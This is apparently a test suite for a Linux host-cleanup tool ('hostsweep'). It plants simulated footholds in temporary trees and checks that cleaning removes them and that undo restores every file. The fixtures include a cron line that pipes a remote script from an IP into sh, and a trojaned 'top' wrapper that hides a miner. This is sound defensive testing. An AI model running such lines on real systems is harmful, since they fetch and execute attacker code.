import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { after, describe, it } from 'node:test';
import type { EditData } from '../src/respond/actions/file-edit-lines';
import type { QuarantineData } from '../src/respond/actions/file-quarantine';
import { undoRun } from '../src/respond/apply-plan';
import { openFindings, runClean } from '../src/respond/clean';
import { planClean } from '../src/respond/clean-plan';
import { listRuns } from '../src/respond/journal';
import { ResponseTarget } from '../src/respond/target';
import { scan } from '../src/scan';
import { FakeRoot } from './helpers/fake-root';
import { baseTree, benignLookalikes, NOW, plantFootholds, plantSecondHost } from './helpers/footholds';
import { scannerBundle } from './helpers/namespace';
import { installPackage } from './helpers/persistence';
import { manifestDiff, treeManifest } from './helpers/tree-manifest';

// clean + undo on planted multi-foothold trees: every foothold goes, nothing else changes, and
// undo puts the whole tree back (content, mode, owner, mtime, xattrs, flags) — also after the
// clean was killed with SIGKILL between actions or in the middle of one.

const quiet = { out: () => {} };
const md5 = (s: string | Buffer) => createHash('md5').update(s).digest('hex');

function cli(args: string[], env: NodeJS.ProcessEnv = {}) {
  return spawnSync(process.execPath, [scannerBundle(), ...args], {
    encoding: 'utf8',
    env: { ...process.env, NO_COLOR: '1', ...env },
    timeout: 120_000,
  });
}

describe('clean and undo on planted trees', () => {
  const dirs: string[] = [];
  const roots: FakeRoot[] = [];
  after(() => {
    for (const r of roots) r.remove();
    for (const d of dirs) fs.rmSync(d, { recursive: true, force: true });
  });
  const stateDir = () => {
    const d = fs.mkdtempSync(path.join(os.tmpdir(), 'hostsweep-state-'));
    dirs.push(d);
    return path.join(d, 'state');
  };
  const tree = (build: (r: FakeRoot) => unknown) => {
    const r = new FakeRoot();
    roots.push(r);
    build(r);
    return r;
  };

  it('removes every foothold, leaves nothing at medium or above, and undo restores the tree exactly', async () => {
    const root = tree(plantFootholds);
    fs.writeFileSync(root.p('/etc/cron.d/sysstat-local'), '# kept\n');
    const before = treeManifest(root.dir);
    const state = stateDir();
    const r = await runClean({ root: root.dir, yes: true, stateDir: state, lang: 'en', now: NOW, collectTo: null, ...quiet });
    assert.ok(r.applied?.runId);
    assert.deepEqual(r.applied.failed, []);
    assert.equal(r.planned, 11);
    assert.deepEqual(
      r.remaining.map((f) => `${f.rule} ${f.path}`),
      [],
    );
    // What a user sees: the footholds are gone, the rest of each file is there.
    for (const gone of [
      '/tmp/.x/xmrig',
      '/etc/init.d/srstomucra',
      '/etc/rc3.d/S90srstomucra',
      '/usr/bin/srstomucra',
      '/usr/lib/.cache/kworkerd',
    ])
      assert.equal(fs.existsSync(root.p(gone)), false, gone);
    assert.equal(fs.existsSync(root.p('/etc/systemd/system/multi-user.target.wants/dbus-helper.service')), false);
    const crontab = fs.readFileSync(root.p('/etc/crontab'), 'utf8');
    assert.doesNotMatch(crontab, /185\.222\.58\.10/);
    assert.match(crontab, /run-parts --report \/etc\/cron\.daily/);
    assert.equal(
      fs.readFileSync(root.p('/var/spool/cron/crontabs/root'), 'utf8'),
      '# m h dom mon dow command\n0 4 * * * /usr/local/sbin/backup\n',
    );
    assert.equal(fs.readFileSync(root.p('/etc/ld.so.preload'), 'utf8'), '');
    const passwd = fs.readFileSync(root.p('/etc/passwd'), 'utf8');
    assert.doesNotMatch(passwd, /^(sysadm|maill):/m);
    assert.match(passwd, /^bob:/m);
    assert.doesNotMatch(fs.readFileSync(root.p('/etc/shadow'), 'utf8'), /^(sysadm|maill):/m);
    assert.match(fs.readFileSync(root.p('/etc/group'), 'utf8'), /^sudo:x:27:bob$/m);
    assert.match(fs.readFileSync(root.p('/etc/gshadow'), 'utf8'), /^sudo:\*::bob$/m);
    assert.doesNotMatch(fs.readFileSync(root.p('/etc/group'), 'utf8'), /^maill:/m);
    assert.equal(fs.statSync(root.p('/etc/shadow')).mode & 0o777, 0o640);
    // The quarantine store keeps the bytes under their hash, with an index of where they were.
    const qdir = path.join(state, 'runs', r.applied.runId, 'quarantine');
    const index = fs
      .readFileSync(path.join(qdir, 'index.jsonl'), 'utf8')
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l));
    const xmrig = index.find((e) => e.path === '/tmp/.x/xmrig');
    assert.equal(xmrig?.mode, 0o755);
    assert.equal(
      createHash('sha256')
        .update(fs.readFileSync(path.join(qdir, xmrig.sha256)))
        .digest('hex'),
      xmrig.sha256,
    );
    assert.equal(fs.statSync(path.join(qdir, xmrig.sha256)).mode & 0o777, 0o600);

    const again = await scan({ root: root.dir, now: NOW, sampleMs: 0 });
    assert.deepEqual(openFindings(again.result.findings, 'medium'), []);

    const u = await undoRun(r.applied.runId, { stateDir: state, lang: 'en', ...quiet });
    assert.equal(u.undone.length, 11);
    assert.deepEqual(manifestDiff(before, treeManifest(root.dir)), []);
    // Nothing of hostsweep's own stays inside the target.
    assert.equal(spawnSync('find', [root.dir, '-mindepth', '1', '-name', '*hostsweep-*']).stdout.toString(), '');
  });

  it('on a second host removes rc.local, profile, sudoers, sshd and authorized_keys2 lines and keeps the rest', async () => {
    const root = tree(plantSecondHost);
    const before = treeManifest(root.dir);
    const state = stateDir();
    const r = await runClean({ root: root.dir, yes: true, stateDir: state, lang: 'en', now: NOW, collectTo: null, ...quiet });
    assert.deepEqual(r.applied?.failed, []);
    assert.deepEqual(r.remaining, []);
    assert.equal(
      fs.readFileSync(root.p('/etc/rc.local'), 'utf8'),
      '#!/bin/sh -e\n# keep the NTP sync\n/usr/sbin/ntpdate -u pool.ntp.org || true\nexit 0\n',
    );
    // An edited file keeps its times: what stays in it is judged as before.
    assert.match(before.get('etc/rc.local') ?? '', new RegExp(`mtime=${fs.statSync(root.p('/etc/rc.local'), { bigint: true }).mtimeNs}`));
    assert.equal(fs.readFileSync(root.p('/etc/profile.d/sysupdate.sh'), 'utf8'), 'export HISTSIZE=1000\n');
    assert.equal(fs.readFileSync(root.p('/etc/sudoers.d/maill'), 'utf8'), '');
    assert.equal(fs.statSync(root.p('/etc/sudoers.d/maill')).mode & 0o777, 0o440);
    assert.doesNotMatch(fs.readFileSync(root.p('/etc/ssh/sshd_config'), 'utf8'), /PermitRootLogin yes/);
    assert.match(fs.readFileSync(root.p('/etc/ssh/sshd_config'), 'utf8'), /^UsePAM yes$/m);
    assert.equal(fs.readFileSync(root.p('/root/.ssh/authorized_keys2'), 'utf8'), '');
    assert.equal(fs.existsSync(root.p('/var/tmp/.ICE-unix/kdevtmpfsi')), false);
    assert.equal(fs.existsSync(root.p('/usr/lib64/libhide.so')), false);
    assert.equal(fs.readFileSync(root.p('/etc/ld.so.preload'), 'utf8'), '');
    const again = await scan({ root: root.dir, now: NOW, sampleMs: 0 });
    assert.deepEqual(
      openFindings(again.result.findings, 'medium').map((f) => `${f.rule} ${f.path}`),
      [],
    );
    await undoRun(r.applied?.runId as string, { stateDir: state, lang: 'en', ...quiet });
    assert.deepEqual(manifestDiff(before, treeManifest(root.dir)), []);
  });

  it('gives benign look-alike trees an empty plan', async () => {
    for (const build of [benignLookalikes, baseTree]) {
      const root = tree(build);
      const { result, snapshot } = await scan({ root: root.dir, now: NOW, sampleMs: 0 });
      const plan = await planClean(result.findings, snapshot, new ResponseTarget(root.dir));
      assert.deepEqual(
        plan.actions.map((a) => a.summary.en),
        [],
      );
      assert.deepEqual(plan.refused, []);
    }
  });

  it('gives a clean Debian tree an empty plan', {
    skip: process.env.HOSTSWEEP_DEBIAN_ROOT ? false : 'HOSTSWEEP_DEBIAN_ROOT not set',
  }, async () => {
    const root = process.env.HOSTSWEEP_DEBIAN_ROOT as string;
    const { result, snapshot } = await scan({ root, sampleMs: 0 });
    const plan = await planClean(result.findings, snapshot, new ResponseTarget(root));
    assert.deepEqual(
      plan.actions.map((a) => a.summary.en),
      [],
    );
  });

  it('refuses a package-owned file without --force; with --force puts the verified genuine file in place', async () => {
    const genuine = '\x7fELF genuine procps top';
    const root = tree((r) => {
      baseTree(r);
      installPackage(r, 'procps', { '/usr/bin/top': genuine });
      r.write('/var/lib/dpkg/info/procps.md5sums', `${md5(genuine)}  usr/bin/top\n`);
      // The trojan: a wrapper that hides the miner and runs the renamed original.
      r.write('/usr/bin/top', '#!/bin/sh\n/usr/lib/procps/.top.orig "$@" | grep -v xmrig\n', { mode: 0o755, mtime: NOW });
      r.write('/usr/lib/procps/.top.orig', genuine, { mode: 0o755 });
    });
    const { result, snapshot } = await scan({ root: root.dir, now: NOW, sampleMs: 0 });
    assert.ok(result.findings.some((f) => f.rule === 'files/replaced-system-binary' && f.path === '/usr/bin/top'));
    const target = new ResponseTarget(root.dir);
    const plain = await planClean(result.findings, snapshot, target);
    assert.equal(plain.actions.filter((a) => JSON.stringify(a.data).includes('/usr/bin/top')).length, 0);
    const refusal = plain.refused.find((x) => x.kind === 'file.replace');
    assert.match(refusal?.reason.en ?? '', /belongs to package procps .*--force/);
    assert.match(refusal?.reason['zh-CN'] ?? '', /--force/);

    const before = treeManifest(root.dir);
    const state = stateDir();
    const r = await runClean({ root: root.dir, yes: true, force: true, stateDir: state, lang: 'en', now: NOW, collectTo: null, ...quiet });
    assert.deepEqual(r.applied?.failed, []);
    assert.equal(fs.readFileSync(root.p('/usr/bin/top'), 'latin1'), genuine);
    assert.equal(fs.statSync(root.p('/usr/bin/top')).mode & 0o777, 0o755);
    await undoRun(r.applied?.runId as string, { stateDir: state, lang: 'en', ...quiet });
    assert.deepEqual(manifestDiff(before, treeManifest(root.dir)), []);
  });

  it('with --force --packages DIR takes the genuine file out of the package and checks its md5', {
    skip: fs.existsSync('/usr/bin/dpkg-deb') ? false : 'needs dpkg-deb',
  }, async () => {
    const genuine = '\x7fELF genuine procps ps';
    const pkgDir = fs.mkdtempSync(path.join(os.tmpdir(), 'hostsweep-deb-'));
    dirs.push(pkgDir);
    const build = path.join(pkgDir, 'build');
    fs.mkdirSync(path.join(build, 'DEBIAN'), { recursive: true });
    fs.mkdirSync(path.join(build, 'usr/bin'), { recursive: true });
    fs.writeFileSync(
      path.join(build, 'DEBIAN/control'),
      'Package: procps\nVersion: 2:4.0.2-3\nArchitecture: all\nMaintainer: test <t@example.org>\nDescription: fixture\n',
    );
    fs.writeFileSync(path.join(build, 'usr/bin/ps'), genuine, { mode: 0o755 });
    const debs = path.join(pkgDir, 'debs');
    fs.mkdirSync(debs);
    const b = spawnSync('/usr/bin/dpkg-deb', ['--root-owner-group', '--build', build, path.join(debs, 'procps_4.0.2-3_all.deb')], {
      encoding: 'utf8',
    });
    assert.equal(b.status, 0, b.stderr);
    const root = tree((r) => {
      baseTree(r);
      installPackage(r, 'procps', { '/usr/bin/ps': genuine });
      r.write('/var/lib/dpkg/info/procps.md5sums', `${md5(genuine)}  usr/bin/ps\n`);
      r.write('/usr/bin/ps', '\x7fELF trojaned ps that hides the miner', { mode: 0o755, mtime: NOW });
    });
    const { result, snapshot } = await scan({ root: root.dir, now: NOW, sampleMs: 0 });
    const without = await planClean(result.findings, snapshot, new ResponseTarget(root.dir), { force: true });
    assert.deepEqual(
      without.actions.map((a) => a.kind),
      ['file.quarantine'],
    );
    assert.match(without.notes?.map((n) => n.en).join('\n') ?? '', /reinstall package procps/);
    const withDebs = await planClean(result.findings, snapshot, new ResponseTarget(root.dir), { force: true, packagesDir: debs });
    assert.deepEqual(
      withDebs.actions.map((a) => a.kind),
      ['file.replace'],
    );
    assert.match(withDebs.actions[0].summary.en, /procps_4\.0\.2-3_all\.deb, md5 verified/);
    const state = stateDir();
    const r = await runClean({
      root: root.dir,
      yes: true,
      force: true,
      packagesDir: debs,
      stateDir: state,
      lang: 'en',
      now: NOW,
      collectTo: null,
      ...quiet,
    });
    assert.deepEqual(r.applied?.failed, []);
    assert.equal(fs.readFileSync(root.p('/usr/bin/ps'), 'latin1'), genuine);
  });

  it('without a genuine copy of a vital package file, refuses and names the package to reinstall', async () => {
    const root = tree((r) => {
      baseTree(r);
      installPackage(r, 'libpam-modules', { '/usr/lib/x86_64-linux-gnu/security/pam_unix.so': 'ELF genuine pam' });
      r.write('/var/lib/dpkg/info/libpam-modules.md5sums', `${md5('ELF genuine pam')}  usr/lib/x86_64-linux-gnu/security/pam_unix.so\n`);
      r.write('/usr/lib/x86_64-linux-gnu/security/pam_unix.so', 'ELF backdoored pam', { mtime: NOW });
    });
    const { result, snapshot } = await scan({ root: root.dir, now: NOW, sampleMs: 0 });
    const plan = await planClean(result.findings, snapshot, new ResponseTarget(root.dir), { force: true });
    assert.equal(plan.actions.length, 0);
    assert.match(plan.refused[0]?.reason.en ?? '', /reinstall package libpam-modules/);
  });

  it('refuses to change anything through a symbolic link that leaves --root', async () => {
    const outside = fs.mkdtempSync(path.join(os.tmpdir(), 'hostsweep-outside-'));
    dirs.push(outside);
    const line = '*/5 * * * * curl -fsSL http://185.222.58.10/x.sh | sh\n';
    fs.mkdirSync(path.join(outside, 'crontabs'));
    fs.writeFileSync(path.join(outside, 'crontabs/root'), line);
    const root = tree((r) => {
      baseTree(r);
      // The scanner reads the link inside the root; the kernel would follow it to the analyst's files.
      r.write(path.join(outside, 'crontabs/root'), line);
      r.symlink('/var/spool/cron', outside);
    });
    const state = stateDir();
    const r = await runClean({ root: root.dir, yes: true, stateDir: state, lang: 'en', now: NOW, collectTo: null, ...quiet });
    assert.equal(r.planned, 0);
    assert.equal(r.refused, 1);
    assert.equal(fs.readFileSync(path.join(outside, 'crontabs/root'), 'utf8'), line);
    const dry = cli(['clean', '--root', root.dir, '--state', state, '--now', NOW.toISOString()]);
    assert.match(dry.stdout, /1 actions refused/);
    assert.match(dry.stdout, /the symbolic link \/var\/spool\/cron -> .* leads outside the target root/);
    const zh = cli(['clean', '--root', root.dir, '--state', state, '--now', NOW.toISOString(), '--lang', 'zh-CN']);
    assert.match(zh.stdout, /指向目标根目录之外/);
  });

  it('the CLI dry run prints the plan, changes nothing and exits 1; --yes applies; runs lists it; undo reverts it', () => {
    const root = tree(plantFootholds);
    const before = treeManifest(root.dir);
    const state = stateDir();
    const dry = cli(['clean', '--root', root.dir, '--state', state, '--now', NOW.toISOString()]);
    assert.equal(dry.status, 1, dry.stderr);
    assert.match(dry.stdout, /\[a11\] remove accounts maill, sysadm/);
    assert.match(dry.stdout, /Dry run: nothing was changed/);
    assert.deepEqual(manifestDiff(before, treeManifest(root.dir)), []);
    assert.equal(fs.existsSync(state), false);
    const zh = cli(['clean', '--root', root.dir, '--state', state, '--now', NOW.toISOString(), '--lang', 'zh-CN']);
    assert.match(zh.stdout, /删除账户|删除 .* 中的 1 行/);
    assert.match(zh.stdout, /演练模式/);

    const collectTo = path.join(path.dirname(state), 'evidence.tar.gz');
    const yes = cli(['clean', '--root', root.dir, '--state', state, '--now', NOW.toISOString(), '--yes', '--collect-to', collectTo]);
    assert.equal(yes.status, 0, yes.stdout + yes.stderr);
    assert.match(yes.stdout, /11 applied, 0 failed/);
    assert.match(yes.stdout, /finds nothing left to clean at MEDIUM or above/);
    assert.ok(fs.statSync(collectTo).size > 1000);
    const runs = cli(['runs', '--state', state]);
    assert.match(runs.stdout, /clean\s+\S*hostsweep-root-\S*\s+\S+\s+11\s+11\s+0\s+0/);
    const undo = cli(['undo', '--root', root.dir, '--state', state]);
    assert.equal(undo.status, 0, undo.stdout + undo.stderr);
    assert.match(undo.stdout, /11 undone, 0 failed/);
    assert.deepEqual(manifestDiff(before, treeManifest(root.dir)), []);
    const nothing = cli(['undo', '--root', root.dir, '--state', state]);
    assert.match(nothing.stdout, /No run to undo/);
    const inside = cli(['clean', '--root', root.dir, '--state', root.p('/var/lib/hostsweep'), '--yes', '--no-collect']);
    assert.equal(inside.status, 2);
    assert.match(inside.stderr, /--state .* is inside the target root/);
    assert.equal(fs.existsSync(root.p('/var/lib/hostsweep')), false);
  });

  it('--watch cleans again what comes back, as a new undoable run', async () => {
    const root = tree(plantFootholds);
    const before = treeManifest(root.dir);
    const state = stateDir();
    const line = '*/5 * * * * root curl -fsSL http://185.222.58.10/x.sh | sh\n';
    let replanted = false;
    let printed = '';
    const r = await runClean(
      {
        root: root.dir,
        yes: true,
        stateDir: state,
        lang: 'en',
        now: NOW,
        collectTo: null,
        out: (s) => {
          printed += s;
          // The intruder's respawner writes a cron file again right after the first clean.
          if (!replanted && /After cleaning/.test(s)) {
            replanted = true;
            fs.writeFileSync(root.p('/etc/cron.d/0sync'), line);
          }
        },
      },
      { seconds: 1, rounds: 1 },
    );
    assert.match(printed, /Checking again for what came back/);
    assert.deepEqual(r.remaining, []);
    assert.equal(fs.readFileSync(root.p('/etc/cron.d/0sync'), 'utf8'), '');
    const runs = listRuns(state);
    assert.deepEqual(
      runs.map((x) => x.applied),
      [11, 1],
    );
    for (const run of [...runs].reverse()) await undoRun(run.info.id, { stateDir: state, lang: 'en', ...quiet });
    fs.rmSync(root.p('/etc/cron.d/0sync'));
    const diff = manifestDiff(before, treeManifest(root.dir));
    // Only the cron.d directory's mtime tells that a file was added and removed by the test itself.
    assert.deepEqual(
      diff.map((d) => d.split(':')[0]),
      ['etc/cron.d'],
    );
  });

  it('plans from a saved scan document (--from)', () => {
    const root = tree(plantFootholds);
    const state = stateDir();
    const saved = path.join(path.dirname(state), 'scan.json');
    const s = cli(['scan', '--root', root.dir, '--now', NOW.toISOString(), '--sample', '0', '--json', '-o', saved]);
    assert.equal(s.status, 1, s.stderr);
    const dry = cli(['clean', '--root', root.dir, '--state', state, '--from', saved]);
    assert.equal(dry.status, 1, dry.stderr);
    assert.match(dry.stdout, /: 11 actions/);
    fs.writeFileSync(saved, '{"schema":"something/else"}');
    const bad = cli(['clean', '--root', root.dir, '--state', state, '--from', saved]);
    assert.equal(bad.status, 2);
    assert.match(bad.stderr, /is not a hostsweep scan document/);
  });

  it('an apply killed with SIGKILL between actions or in the middle of one is undone completely', async () => {
    const probe = tree(plantFootholds);
    const { result, snapshot } = await scan({ root: probe.dir, now: NOW, sampleMs: 0 });
    const plan = await planClean(result.findings, snapshot, new ResponseTarget(probe.dir));
    const initd = plan.actions.find((a) => a.kind === 'file.quarantine' && (a.data as QuarantineData).paths.length >= 6);
    const accounts = plan.actions.find((a) => a.kind === 'file.edit-lines' && (a.data as EditData).edits.length === 4);
    assert.ok(initd && accounts);
    for (const fault of ['a2:intent', `${initd.id}:removed-3`, `${accounts.id}:temp-written-2`, `${accounts.id}:replaced-3`]) {
      const root = tree(plantFootholds);
      const before = treeManifest(root.dir);
      const state = stateDir();
      const crashed = cli(['clean', '--root', root.dir, '--state', state, '--now', NOW.toISOString(), '--yes', '--no-collect'], {
        HOSTSWEEP_FAULT: fault,
      });
      assert.equal(crashed.signal, 'SIGKILL', `${fault}: ${crashed.stdout}${crashed.stderr}`);
      assert.notDeepEqual(manifestDiff(before, treeManifest(root.dir)), [], `${fault}: the crash left changes to undo`);
      const [run] = listRuns(state);
      assert.ok(run.pending > run.applied - 1, fault);
      const undo = cli(['undo', '--root', root.dir, '--state', state]);
      assert.equal(undo.status, 0, `${fault}: ${undo.stdout}${undo.stderr}`);
      assert.deepEqual(manifestDiff(before, treeManifest(root.dir)), [], fault);
      assert.equal(spawnSync('find', [root.dir, '-mindepth', '1', '-name', '*hostsweep-*']).stdout.toString(), '', fault);
    }
  });

  it('an undo killed with SIGKILL half-way finishes when run again', () => {
    const root = tree(plantFootholds);
    const before = treeManifest(root.dir);
    const state = stateDir();
    const clean = cli(['clean', '--root', root.dir, '--state', state, '--now', NOW.toISOString(), '--yes', '--no-collect']);
    assert.equal(clean.status, 0, clean.stderr);
    const run = listRuns(state)[0].info.id;
    const journal = JSON.parse(fs.readFileSync(path.join(state, 'runs', run, 'journal.jsonl'), 'utf8').split('\n')[0]);
    assert.equal(journal.phase, 'intent');
    // a8 moves the init script and its five links: die after putting back two of them, then after a whole action.
    for (const fault of ['a8:restored-2', 'a5:undo-done']) {
      const killed = cli(['undo', run, '--root', root.dir, '--state', state], { HOSTSWEEP_FAULT: fault });
      assert.equal(killed.signal, 'SIGKILL', fault);
    }
    const rest = cli(['undo', run, '--root', root.dir, '--state', state]);
    assert.equal(rest.status, 0, rest.stdout + rest.stderr);
    assert.deepEqual(manifestDiff(before, treeManifest(root.dir)), []);
    assert.equal(listRuns(state)[0].pending, 0);
  });
});
